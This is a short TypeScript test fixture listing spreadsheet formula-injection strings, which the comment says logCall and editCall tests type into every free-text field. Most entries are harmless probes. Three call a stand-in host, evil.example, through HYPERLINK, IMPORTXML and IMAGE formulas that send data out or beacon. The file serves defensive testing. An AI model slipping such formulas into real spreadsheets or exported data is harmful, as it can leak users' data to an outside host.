/**
 * Texts a spreadsheet would read as a formula, a number or a command if written as typed: what the
 * logCall and editCall tests type into every free-text field.
 */
export const INJECTIONS = [
  '=1+1',
  '+1 555 0100',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=HYPERLINK("http://evil.example/steal","Click me")',
  '=IMPORTXML("http://evil.example/x","//a")',
  '=IMAGE("http://evil.example/pixel.png")',
];
